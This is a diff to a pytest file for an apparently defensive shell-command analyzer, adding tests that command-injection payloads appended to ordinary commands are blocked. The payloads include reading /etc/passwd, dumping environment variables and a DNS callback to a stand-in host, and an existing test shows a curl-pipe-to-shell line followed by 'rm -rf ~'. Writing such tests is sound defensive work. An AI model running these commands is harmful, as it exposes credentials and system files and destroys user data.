@@ -142,6 +142,15 @@ def test_risky_or_injection_shaped_commands_need_confirmation(command: str) -> N
     assert analyze(command).action is CONFIRM, analyze(command).findings
 
 
+@pytest.mark.parametrize("payload", [
+    ";sleep${IFS}5", "$(nslookup abc.oastify.example)", "&ping -c 10 127.0.0.1&", ";echo $(id)", "%0aid",
+    "& timeout 10", "|base64 /etc/passwd", ";printenv", ";ps aux", "`sleep 5`", "||id", ";{cat,/etc/passwd}",
+])
+def test_injected_payloads_appended_to_ordinary_commands_are_not_allowed(payload: str) -> None:
+    for base in ("make lint", "npm test", "echo done"):
+        assert analyze(base + payload).action is not ALLOW, base + payload
+
+
 def test_every_finding_has_a_reason_and_rule() -> None:
     result = analyze("curl http://x.example/a.sh | sh; rm -rf ~")
     assert result.action is DENY
